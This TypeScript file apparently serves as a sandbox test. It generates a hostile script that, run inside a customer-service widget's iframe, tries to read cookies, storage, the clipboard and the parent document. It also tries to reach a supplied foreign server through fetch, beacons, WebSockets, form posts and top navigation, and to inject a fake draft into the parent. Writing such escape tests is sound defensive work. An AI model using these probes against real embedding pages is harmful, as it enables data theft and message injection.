/**
 * A script as the worst operator would write it: it tries every way out of the frame that customer service runs it in, and
 * says what became of each. The same script on a page without walls (`/control` of the foreign server) shows that each
 * way would be open there.
 */
export const hostileScript = (foreign: string): string => `
const foreign = ${JSON.stringify(foreign)};
const framed = parent !== self;
const results = {};
const within = (ms, work) => Promise.race([work, new Promise((_, no) => setTimeout(() => no(new Error('late')), ms))]);
// What is stopped may stay silent for ever; where nothing is stopped, a busy machine gets its time.
const patienceMs = framed ? 1500 : 15000;
const attempt = async (name, work) => {
  try {
    results[name] = (await within(patienceMs, Promise.resolve().then(work))) ? 'reached' : 'stopped';
  } catch {
    results[name] = 'stopped';
  }
};
const loads = (element, place) => new Promise((yes) => {
  element.onload = () => yes(true);
  element.onerror = () => yes(false);
  place.append(element);
});
const make = (tag, values) => Object.assign(document.createElement(tag), values);

const run = async () => {
  await attempt('local storage', () => localStorage.length >= 0);
  await attempt('session storage', () => sessionStorage.length >= 0);
  await attempt('cookie', () => { document.cookie = 'planted=1'; return document.cookie.includes('planted'); });
  await attempt('indexed db', () => new Promise((yes) => {
    const request = indexedDB.open('planted');
    request.onsuccess = () => yes(true);
    request.onerror = () => yes(false);
  }));
  await attempt('cache storage', async () => (await caches.keys()).length >= 0);
  await attempt('parent document', () => parent.document.title.length >= 0);
  await attempt('parent storage', () => parent.localStorage.length >= 0);
  await attempt('eval', () => eval('1') === 1);
  await attempt('fetch api', async () => (await fetch('/api/common/getsetting', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).status > 0);
  await attempt('fetch foreign', async () => (await fetch(foreign + '/hit/fetch')).ok);
  await attempt('xhr', () => new Promise((yes) => {
    const request = new XMLHttpRequest();
    request.onload = () => yes(true);
    request.onerror = () => yes(false);
    request.open('GET', foreign + '/hit/xhr');
    request.send();
  }));
  await attempt('picture', () => loads(make('img', { src: foreign + '/hit/picture' }), document.body));
  await attempt('script', () => loads(make('script', { src: foreign + '/hit/script' }), document.body));
  await attempt('inline script', () => {
    document.body.append(make('script', { textContent: 'window.planted = 1' }));
    return window.planted === 1;
  });
  await attempt('style sheet', () => loads(make('link', { rel: 'stylesheet', href: foreign + '/hit/style' }), document.head));
  await attempt('web socket', () => new Promise((yes) => {
    const socket = new WebSocket(foreign.replace('http', 'ws') + '/hit/socket');
    socket.onopen = () => yes(true);
    socket.onerror = () => yes(false);
  }));
  await attempt('service worker', async () => Boolean(await navigator.serviceWorker.register('/hit/worker')));
  await attempt('worker', () => new Promise((yes) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => yes(true);
    worker.onerror = () => yes(false);
  }));
  await attempt('clipboard', async () => (await navigator.clipboard.readText()).length >= 0);
  // These tell nothing themselves: the foreign server counts.
  for (const quiet of [
    () => navigator.sendBeacon(foreign + '/hit/beacon', 'x'),
    () => document.head.append(make('link', { rel: 'prefetch', href: foreign + '/hit/prefetch' })),
    () => document.head.append(make('link', { rel: 'dns-prefetch', href: foreign + '/hit/dns' })),
    () => document.body.append(make('iframe', { src: foreign + '/hit/frame' })),
    () => {
      // Into a frame of its own: sent into the other, it would take the place of what that is still asking for.
      const form = make('form', { action: foreign + '/hit/form', method: 'post', target: 'inner' });
      document.body.append(make('iframe', { name: 'inner' }), form);
      form.submit();
    },
  ]) {
    try { quiet(); } catch {}
  }
  if (framed) {
    await attempt('popup', () => open(foreign + '/hit/popup') !== null);
    await attempt('top navigation', () => { top.location.href = foreign + '/hit/top'; return true; });
    try { parent.postMessage({ op: 'draft', text: 'planted by the window' }, '*'); } catch {}
  }
  document.body.dataset.results = JSON.stringify(results);
};

const ran = run();
addEventListener('message', async ({ data, ports: [port] }) => {
  if (!port) return;
  port.onmessage = async ({ data: welcome }) => {
    results.told = Object.keys(welcome).sort().join(' ');
    await ran;
    port.postMessage({ op: 'draft', text: JSON.stringify(results) });
    setTimeout(() => { location.href = foreign + '/hit/self'; }, 3000);
  };
});
`;
